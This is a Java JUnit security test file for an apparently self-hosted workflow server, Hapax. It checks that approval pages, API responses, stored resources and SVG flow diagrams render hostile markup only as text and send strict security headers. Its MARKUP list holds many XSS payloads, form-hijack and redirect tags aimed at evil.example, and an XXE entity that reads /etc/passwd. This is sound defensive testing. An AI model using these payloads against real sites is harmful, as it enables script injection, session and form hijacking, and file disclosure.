package dev.hapax.app.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.hapax.app.ServerProcess;
import dev.hapax.flows.file.FlowReader;
import dev.hapax.flows.graph.FlowPicture;
import dev.hapax.json.Json;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;
import tools.jackson.databind.JsonNode;

/** Texts of strangers that would become part of a page, or a page of their own, in a browser. */
@Timeout(value = 240, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
@SuppressWarnings("MemberName") // the names of tests are sentences
@Tag("attack")
class MarkupAttackTest {
  private static final Pattern TAG = Pattern.compile("<[^>]*>");
  private static final Pattern TITLE = Pattern.compile("<h1>(.*?)</h1>", Pattern.DOTALL);
  private static final Pattern LAST =
      Pattern.compile(".*<p>(.*?)</p>\\s*</body>.*", Pattern.DOTALL);

  /** What a browser shows as text or saves, and never executes. */
  private static final Pattern HARMLESS =
      Pattern.compile("application/(problem\\+json|json|yaml|x-ndjson)|text/plain.*");

  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "</h1><script>alert(1)</script>",
          "</title></head><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "<ScRiPt >alert(1)</sCrIpT >",
          "<script src=//evil.example/x.js>",
          "\"><img src=x onerror=alert(1)>",
          "'><svg/onload=alert(1)>",
          "\" autofocus onfocus=alert(1) x=\"",
          "<svg><script>alert(1)</script></svg>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "javascript:alert(1)",
          "</form><form action=https://evil.example><input name=name>",
          "<button name=decision value=approve formaction=//evil.example>Approve</button>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<base href=//evil.example/>",
          "<link rel=stylesheet href=//evil.example>",
          "<style>@import '//evil.example'</style>",
          "<img src=\"x\" style=\"width:expression(alert(1))\">",
          "--><script>alert(1)</script><!--",
          "<![CDATA[<script>alert(1)</script>]]>",
          "]]><script>alert(1)</script>",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
          "<?xml-stylesheet href=\"//evil.example\"?>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)",
          "&\"'<>&amp;",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\\u003cscript\\u003ealert(1)",
          "\uFF1Cscript\uFF1Ealert(1)",
          "<\u2028script>alert(1)",
          "<plaintext>",
          "{{constructor.constructor('alert(1)')()}}");

  @TempDir private static Path folder;
  private static ServerProcess server;

  @BeforeAll
  static void start() throws Exception {
    server =
        new ServerProcess(
            folder,
            List.of("-Xmx256m"),
            "http.requestsPerToken=off",
            "http.requestsPerAddress=off");
    server.release(
        server.token(),
        """
        flow: question
        key: ${input.v}
        steps:
          - {id: ask, approval: {ask: "${input.v}"}}
        """);
    server.release(server.token(), "flow: other\nsteps:\n  - {id: a, set: {v: \"${input.v}\"}}\n");
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @Test
  void the_page_of_an_approval_shows_markup_as_text() throws Exception {
    List<String> asked = List.of("harmless", "harmless too");
    HttpResponse<String> usual = page(ask(asked.get(0)));
    HttpResponse<String> usualEnd = decide(ask(asked.get(1)), "ann", "fine");
    int attempts = 0;
    for (String markup : MARKUP) {
      String link = ask(markup);
      HttpResponse<String> open = page(link);
      assertThat(tags(open)).as(markup).isEqualTo(tags(usual));
      assertThat(text(TITLE, open)).isEqualTo(markup);
      HttpResponse<String> decided = decide(link, markup, markup);
      assertThat(tags(decided)).as(markup).isEqualTo(tags(usualEnd));
      assertThat(text(LAST, decided))
          .startsWith("Decided: approve by " + markup)
          .endsWith(": " + markup);
      assertThat(tags(page(link))).as("read again").isEqualTo(tags(usualEnd));
      attempts += 4; // the question twice, the name, the comment
    }
    AttackTable.held(MarkupAttackTest.class, "Markup on the page of an approval", attempts);
  }

  /** Starts a run that asks this, and returns the path of its page. */
  private static String ask(String text) throws Exception {
    String run =
        ServerProcess.must(
                server.ask(
                    server.token(),
                    "POST",
                    "/api/flows/question/runs",
                    Json.write(Map.of("v", text))))
            .at("/id");
    while (true) {
      JsonNode items =
          ServerProcess.must(server.get(server.token(), "/api/approvals?limit=200"))
              .json()
              .at("/items");
      for (JsonNode item : items) {
        if (item.path("run").asString().equals(run)) {
          assertThat(item.path("ask").asString()).isEqualTo(text);
          return URI.create(item.path("link").asString()).getRawPath();
        }
      }
    }
  }

  private static HttpResponse<String> page(String link) throws Exception {
    return assertGuarded(send(request(link).GET()));
  }

  private static HttpResponse<String> decide(String link, String name, String comment)
      throws Exception {
    String form = "decision=approve&name=%s&comment=%s".formatted(encoded(name), encoded(comment));
    return assertGuarded(
        send(
            request(link)
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(BodyPublishers.ofString(form))));
  }

  /** Even markup that got through could load, send and frame nothing. */
  private static HttpResponse<String> assertGuarded(HttpResponse<String> page) {
    assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
    assertThat(header(page, "Content-Type")).isEqualTo("text/html;charset=utf-8");
    assertThat(header(page, "X-Content-Type-Options")).isEqualTo("nosniff");
    assertThat(header(page, "Content-Security-Policy"))
        .contains("default-src 'none'", "form-action 'self'", "frame-ancestors 'none'")
        .contains("base-uri 'none'")
        .doesNotContain("unsafe", "script-src");
    assertThat(header(page, "Referrer-Policy")).isEqualTo("no-referrer");
    assertThat(header(page, "Cache-Control")).isEqualTo("no-store");
    return page;
  }

  private static List<String> tags(HttpResponse<String> page) {
    return TAG.matcher(page.body()).results().map(MatchResult::group).toList();
  }

  private static String text(Pattern place, HttpResponse<String> page) {
    String found =
        place.matcher(page.body()).results().map(one -> one.group(1)).findFirst().orElseThrow();
    return found
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&");
  }

  @Test
  void no_other_answer_is_a_page() throws Exception {
    int attempts = 0;
    for (String path : List.of("/healthz", "/readyz", "/metrics", "/openapi.json", "/x")) {
      assertHarmless(path, send(request(path).GET()));
    }
    assertHarmless("/", send(request("/").setHeader("Accept", "application/json").GET()));
    for (String markup : MARKUP) {
      for (HttpRequest.Builder request : echoes(markup)) {
        HttpResponse<String> answer = send(request);
        assertHarmless(markup, answer);
        attempts++;
      }
    }
    AttackTable.held(MarkupAttackTest.class, "Markup that an answer repeats", attempts);
  }

  /** Requests whose answers repeat the text, or parts of it. */
  private static List<HttpRequest.Builder> echoes(String markup) {
    String encoded = encoded(markup);
    String json = Json.write(Map.of("value", markup, "v", markup));
    String described =
        "flow: described\ndescription: %s\nsteps:\n  - {id: a, set: {x: 1}}\n"
            .formatted(Json.write(markup));
    List<HttpRequest.Builder> all = new ArrayList<>();
    all.add(request("/" + encoded).GET());
    all.add(request("/approvals/" + encoded).GET());
    all.add(request("/api/callbacks/" + encoded).POST(BodyPublishers.ofString(json)));
    all.add(request("/hooks/" + encoded).POST(BodyPublishers.ofString(markup)));
    all.add(ours("/api/runs/" + encoded).GET());
    all.add(ours("/api/runs?status=" + encoded).GET());
    all.add(ours("/api/runs?limit=" + encoded).GET());
    all.add(ours("/api/runs?key=" + encoded).GET());
    all.add(ours("/api/flows/" + encoded + "/draft").GET());
    all.add(ours("/api/flows/other/runs").POST(BodyPublishers.ofString(markup)));
    all.add(ours("/api/flows/other/runs").POST(BodyPublishers.ofString(json)));
    all.add(ours("/api/kv/hostile").PUT(BodyPublishers.ofString(json)));
    all.add(ours("/api/kv/hostile").GET());
    all.add(
        ours("/api/flows/described/draft")
            .setHeader("Content-Type", "application/yaml")
            .PUT(BodyPublishers.ofString(described)));
    all.add(ours("/api/flows/described/draft").GET());
    all.add(ours("/api/flows/described").GET());
    all.add(ours("/api/approvals?limit=200").GET());
    all.add(ours("/api/audit?limit=200").GET());
    return all;
  }

  private static void assertHarmless(String what, HttpResponse<String> answer) {
    assertThat(header(answer, "X-Content-Type-Options")).as(what).isEqualTo("nosniff");
    if (!answer.body().isEmpty()) {
      assertThat(header(answer, "Content-Type")).as("%s %s", answer.uri(), what).matches(HARMLESS);
    }
  }

  /** Refused by the HTTP server itself, before any route is looked for. */
  @Test
  void no_malformed_request_is_answered_by_a_page() throws Exception {
    int attempts = 0;
    String host = "Host: 127.0.0.1\r\n";
    try (var peer = new RawPeer(server.address())) {
      for (String markup : MARKUP) {
        String raw = new String(markup.getBytes(UTF_8), ISO_8859_1);
        for (RawPeer.Answer answer :
            List.of(
                peer.ask("GET", "/" + raw, host),
                peer.ask("GET", "/?q=" + raw, host),
                peer.ask("GET", raw, host),
                peer.ask(raw.replace(" ", ""), "/", host),
                peer.ask("GET", "/", "Host: " + raw + "\r\n"),
                peer.ask("GET", "/", host + raw + ": x\r\n"))) {
          if (answer.status() == 200) { // no Accept at the root: the page, which repeats nothing
            assertThat(answer.body()).contains("<title>Hapax").doesNotContain(raw);
            assertThat(answer.headers().get("content-security-policy"))
                .contains("default-src 'none'");
          } else if (answer.status() != 0) {
            assertThat(answer.status()).as(markup).isBetween(400, 599);
            assertThat(answer.headers().get("x-content-type-options"))
                .as("%s: %s", markup, answer)
                .isEqualTo("nosniff");
            assertThat(answer.headers().get("content-type"))
                .as("%s: %s", markup, answer)
                .matches(HARMLESS);
          }
          attempts++;
        }
      }
    }
    AttackTable.held(MarkupAttackTest.class, "Markup in malformed requests", attempts);
  }

  @Test
  void a_stored_page_is_a_file_to_save() throws Exception {
    List<String> types =
        List.of(
            "text/html",
            "text/html; charset=utf-7",
            "TEXT/HTML",
            "application/xhtml+xml",
            "image/svg+xml",
            "text/xml",
            "application/xml",
            "text/javascript",
            "application/pdf",
            "multipart/x-mixed-replace",
            "application/octet-stream",
            "text/plain");
    int attempts = 0;
    for (String type : types) {
      String page = "<html><script>alert('%s')</script></html>".formatted(type);
      HttpResponse<String> put =
          send(
              ours("/api/resources")
                  .setHeader("Content-Type", type)
                  .POST(BodyPublishers.ofString(page)));
      assertThat(put.statusCode()).as(put.body()).isEqualTo(201);
      String place = put.headers().firstValue("Location").orElseThrow();
      HttpResponse<String> got = send(ours(place).GET());
      assertThat(got.body()).isEqualTo(page);
      assertThat(header(got, "Content-Disposition")).as(type).isEqualTo("attachment");
      assertThat(header(got, "X-Content-Type-Options")).as(type).isEqualTo("nosniff");
      assertThat(header(got, "Content-Security-Policy"))
          .as(type)
          .isEqualTo("default-src 'none'; sandbox");
      attempts++;
    }
    AttackTable.held(MarkupAttackTest.class, "Pages stored as resources", attempts);
  }

  @Test
  void a_picture_of_a_flow_has_markup_only_as_text() throws Exception {
    int attempts = 0;
    for (String markup : MARKUP) {
      String text = Json.write(markup.replace("${", "$${"));
      String file =
          """
          flow: hostile
          description: %1$s
          key: ${input.id}
          steps:
            - {id: note, set: {v: %1$s}}
            - {id: fetch, http: {url: "https://shop.example/", query: {q: %1$s}}}
            - {id: ask, when: "${input.a == %2$s}", approval: {ask: %1$s, expires: 1d}}
            - {id: stop, when: "${input.b == 1}", fail: {code: hostile, message: %1$s}}
          """
              .formatted(text, "'" + markup.replaceAll("[^A-Za-z<>/()&; =]", "") + "'");
      FlowReader.Result read = FlowReader.read("hostile.yaml", file);
      assertThat(read.problems()).as(file).isEmpty();
      Element root = parsed(FlowPicture.svg(Objects.requireNonNull(read.file())));
      NodeList all = root.getElementsByTagName("*");
      for (int i = 0; i < all.getLength(); i++) {
        var element = (Element) all.item(i);
        assertThat(element.getTagName()).as(markup).isIn(ELEMENTS);
        for (int j = 0; j < element.getAttributes().getLength(); j++) {
          assertThat(element.getAttributes().item(j).getNodeName()).as(markup).isIn(ATTRIBUTES);
        }
      }
      assertThat(root.getElementsByTagName("desc").item(0).getTextContent()).contains(markup);
      attempts += 5;
    }
    AttackTable.held(MarkupAttackTest.class, "Markup in pictures of flows", attempts);
  }

  private static final Set<String> ELEMENTS =
      Set.of("title", "desc", "style", "rect", "g", "path", "text");

  private static final Set<String> ATTRIBUTES =
      Set.of(
          "class",
          "id",
          "x",
          "y",
          "width",
          "height",
          "rx",
          "d",
          "transform",
          "text-anchor",
          "data-step");

  private static Element parsed(String svg) throws Exception {
    return DocumentBuilderFactory.newDefaultInstance()
        .newDocumentBuilder()
        .parse(new InputSource(new StringReader(svg)))
        .getDocumentElement();
  }

  private static HttpRequest.Builder request(String path) {
    return HttpRequest.newBuilder(URI.create(server.address() + path));
  }

  private static HttpRequest.Builder ours(String path) {
    return request(path)
        .header("Authorization", "Bearer " + server.token())
        .header("Content-Type", "application/json");
  }

  private static HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
    return server.client().send(request.build(), BodyHandlers.ofString());
  }

  private static String header(HttpResponse<String> answer, String name) {
    return answer.headers().firstValue(name).orElse("");
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, UTF_8).replace("+", "%20");
  }
}
